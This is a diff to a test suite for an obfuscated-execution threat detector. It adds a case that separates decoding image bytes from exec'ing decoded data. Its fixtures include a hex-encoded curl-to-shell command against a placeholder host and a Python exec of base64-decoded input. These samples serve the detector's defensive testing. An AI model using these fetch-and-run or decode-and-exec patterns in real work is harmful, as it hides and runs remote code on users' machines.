@@ -130,6 +130,10 @@ describe('threat/obfuscated-exec', () => {
     const findings = threats(fence('bash', 'echo 6375726c202d732068747470733a2f2f782e6578616d706c652e6e65742f73207c207368 | xxd -r -p | bash'));
     expect(findings).toContain('threat/obfuscated-exec 8:93 error');
   });
+  it('reads an inline program that parses JSON and writes decoded image bytes as data handling, and one that runs what it decodes as hidden code', () => {
+    expect(threats(fence('bash', 'python3 -c "\nimport json, base64\nwith open(\'/tmp/render.json\') as f:\n    reply = json.load(f)\nwith open(\'out.png\', \'wb\') as f:\n    f.write(base64.b64decode(reply[\'png\']))\n"'))).toEqual([]);
+    expect(threats(fence('bash', 'python3 -c "\nimport json, base64\nwith open(\'/tmp/render.json\') as f:\n    reply = json.load(f)\nexec(base64.b64decode(reply[\'png\']))\n"'))).toEqual(['threat/obfuscated-exec 8:1 error']);
+  });
   it('leaves decoding for inspection alone', () => {
     expect(threats(fence('bash', 'echo "$PAYLOAD" | base64 -d | jq .'))).toEqual([]);
     expect(threats(fence('bash', 'eval "$(ssh-agent -s)"\neval "$(pyenv init -)"'))).toEqual([]);
